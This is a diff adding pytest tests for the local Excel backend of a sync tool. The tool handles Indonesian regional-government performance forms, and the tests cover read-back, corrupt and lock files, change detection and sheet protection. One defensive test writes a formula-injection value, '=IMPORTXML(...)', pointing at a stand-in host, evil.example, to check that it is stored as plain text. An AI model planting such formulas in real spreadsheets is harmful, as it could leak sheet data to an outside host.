@@ -1,0 +1,164 @@
+"""The local backend's .xlsx specifics: what Excel users type is read back, RAW writes, damaged and
+lock files, sheet protection."""
+
+from __future__ import annotations
+
+import os
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from zoneinfo import ZoneInfo
+
+import pytest
+from openpyxl import load_workbook
+
+from sheets_sync.backends.base import RangeWrite
+from sheets_sync.backends.local import LocalBackend
+from sheets_sync.errors import FormNotFound, FormUnreadable
+from sheets_sync.layout import DONE_CELL, FIRST_ROW, build_setup, read_form, read_range
+from sheets_sync.model import Indicator, Office, Period, Schedule, Unit
+
+WIB = ZoneInfo("Asia/Jakarta")
+TW1 = Period(2025, 1)
+OFFICE = Office("PEMERINTAH KABUPATEN SUKAMAJU", "Badan Kepegawaian", "BKPSDM", "Sukamaju", "Jl. Merdeka 1")
+MP = Unit("MP", "Bidang Mutasi dan Promosi")
+SCHEDULE = Schedule(TW1, datetime(2025, 4, 8, 8, tzinfo=WIB), datetime(2025, 4, 10, 16, tzinfo=WIB))
+INDICATORS = tuple(
+    Indicator(code, "MP", "Meningkatnya sistem merit", f"Indikator {code}", "%", "positif", "nilai_akhir",
+              "kumulatif", "90", ("90", "90", "90", "90"))
+    for code in ("2.1", "2.2", "3.3")
+)
+
+
+@pytest.fixture
+def backend(tmp_path: Path) -> LocalBackend:
+    return LocalBackend(tmp_path / "forms")
+
+
+@pytest.fixture
+def form(backend: LocalBackend) -> Path:
+    """A provisioned TW1 form; returns its file path."""
+    ref = backend.create_form("Data Kinerja 2025 — MP")
+    backend.setup(ref.id, build_setup(MP, INDICATORS, TW1, OFFICE, SCHEDULE, None))
+    return Path(ref.link)
+
+
+def excel_types(path: Path, edits: dict[str, object]) -> None:
+    """A person opens the file in Excel, types into cells and saves."""
+    wb = load_workbook(path)
+    ws = wb["TW1"]
+    for a1, value in edits.items():
+        ws[a1] = value
+    wb.save(path)
+
+
+def test_the_form_file_is_named_after_its_title_and_lives_in_the_folder(backend: LocalBackend, form: Path) -> None:
+    assert form.parent == backend.folder.resolve()
+    assert form.suffix == ".xlsx"
+    assert backend.list_tabs(form.name) == ["TW1"]
+
+
+def test_values_typed_in_excel_are_read_back(backend: LocalBackend, form: Path) -> None:
+    excel_types(form, {f"H{FIRST_ROW}": 81.5, f"K{FIRST_ROW}": "kendala anggaran", f"H{FIRST_ROW + 1}": "72,50",
+                       DONE_CELL: "Selesai"})
+    values = backend.read(form.name, [read_range(TW1)])[read_range(TW1)]
+    result = read_form(values, MP, INDICATORS, TW1, form_id=form.name, link=str(form),
+                       read_at=datetime.now(UTC))
+    assert result.ok and result.findings == ()
+    first, second = result.row("2.1"), result.row("2.2")
+    assert first is not None and second is not None
+    assert first.cells["realisasi"] == 81.5
+    assert first.cells["keterangan"] == "kendala anggaran"
+    assert second.cells["realisasi"] == "72,50"
+    assert result.done
+
+
+def test_an_empty_cell_reads_as_none_not_an_empty_string(backend: LocalBackend, form: Path) -> None:
+    excel_types(form, {f"H{FIRST_ROW}": ""})
+    got = backend.read(form.name, [f"TW1!H{FIRST_ROW}:L{FIRST_ROW}"])[f"TW1!H{FIRST_ROW}:L{FIRST_ROW}"]
+    assert got == [] or got == [[None] * 5]
+
+
+def test_text_starting_with_equals_is_stored_as_text_not_a_formula(backend: LocalBackend, form: Path) -> None:
+    formula = '=IMPORTXML("https://evil.example","//a")'
+    backend.write(form.name, [RangeWrite(f"TW1!K{FIRST_ROW}", [[formula]])])
+    ws = load_workbook(form)["TW1"]
+    assert ws[f"K{FIRST_ROW}"].data_type == "s"
+    assert ws[f"K{FIRST_ROW}"].value == formula
+    key = f"TW1!K{FIRST_ROW}"
+    assert backend.read(form.name, [key])[key] == [[formula]]
+
+
+def test_a_truncated_file_is_form_unreadable(backend: LocalBackend, form: Path) -> None:
+    data = form.read_bytes()
+    form.write_bytes(data[: len(data) // 2])
+    with pytest.raises(FormUnreadable) as info:
+        backend.read(form.name, [read_range(TW1)])
+    assert form.name in str(info.value)
+    with pytest.raises(FormUnreadable):
+        backend.list_tabs(form.name)
+
+
+def test_a_file_that_is_not_a_workbook_is_form_unreadable(backend: LocalBackend) -> None:
+    backend.folder.mkdir(parents=True, exist_ok=True)
+    (backend.folder / "catatan.xlsx").write_text("bukan excel", encoding="utf-8")
+    with pytest.raises(FormUnreadable):
+        backend.read("catatan.xlsx", ["TW1!A1:B2"])
+
+
+def test_a_missing_file_is_form_not_found(backend: LocalBackend) -> None:
+    with pytest.raises(FormNotFound):
+        backend.read("tidak-ada.xlsx", ["TW1!A1"])
+
+
+def test_office_lock_files_are_not_reported_as_changed_forms(backend: LocalBackend, form: Path) -> None:
+    (backend.folder / f"~${form.name}").write_bytes(b"owner")
+    (backend.folder / f".~lock.{form.name}#").write_bytes(b"owner")
+    (backend.folder / ".~lock.x.xlsx").write_bytes(b"owner")
+    changes = backend.changed_since(None)
+    assert [c.form_id for c in changes] == [form.name]
+
+
+def test_changed_since_reports_only_files_modified_after_the_mark(backend: LocalBackend, form: Path) -> None:
+    past = datetime.now(UTC) - timedelta(days=1)
+    os.utime(form, (past.timestamp(), past.timestamp()))
+    assert [c.form_id for c in backend.changed_since(past - timedelta(seconds=1))] == [form.name]
+    assert backend.changed_since(past + timedelta(hours=1)) == []
+
+
+def test_setup_protects_the_sheet_and_unlocks_only_input_cells(form: Path) -> None:
+    ws = load_workbook(form)["TW1"]
+    assert ws.protection.sheet
+    for r in range(FIRST_ROW, FIRST_ROW + len(INDICATORS)):
+        for letter in "HIJKL":
+            assert ws[f"{letter}{r}"].protection.locked is False, f"{letter}{r}"
+        for letter in "ABDEFG":
+            assert ws[f"{letter}{r}"].protection.locked is True, f"{letter}{r}"
+    assert ws[DONE_CELL].protection.locked is False
+    assert ws["A1"].protection.locked is True
+    assert ws["H5"].protection.locked is True
+
+
+def test_setup_adds_validations_on_the_input_cells(form: Path) -> None:
+    ws = load_workbook(form)["TW1"]
+    sqrefs = {str(dv.sqref): dv.type for dv in ws.data_validations.dataValidation}
+    assert sqrefs.get(DONE_CELL) == "list"
+    assert any(kind == "decimal" and ref.startswith(f"H{FIRST_ROW}") for ref, kind in sqrefs.items())
+
+
+def test_setup_again_keeps_what_people_typed(backend: LocalBackend, form: Path) -> None:
+    excel_types(form, {f"H{FIRST_ROW}": 95, DONE_CELL: "Selesai"})
+    existing = backend.read(form.name, [read_range(TW1)])[read_range(TW1)]
+    backend.setup(form.name, build_setup(MP, INDICATORS, TW1, OFFICE, SCHEDULE, existing))
+    ws = load_workbook(form)["TW1"]
+    assert ws[f"H{FIRST_ROW}"].value == 95
+    assert ws[DONE_CELL].value == "Selesai"
+    assert backend.read_marker(form.name, "TW1") == {"form": "1", "unit": "MP", "period": "2025-TW1"}
+
+
+def test_writing_identical_values_does_not_touch_the_file(backend: LocalBackend, form: Path) -> None:
+    writes = [RangeWrite(f"TW1!K{FIRST_ROW}", [["sama"]])]
+    backend.write(form.name, writes)
+    past = datetime.now(UTC) - timedelta(days=1)
+    os.utime(form, (past.timestamp(), past.timestamp()))
+    backend.write(form.name, writes)
+    assert abs(form.stat().st_mtime - past.timestamp()) < 1
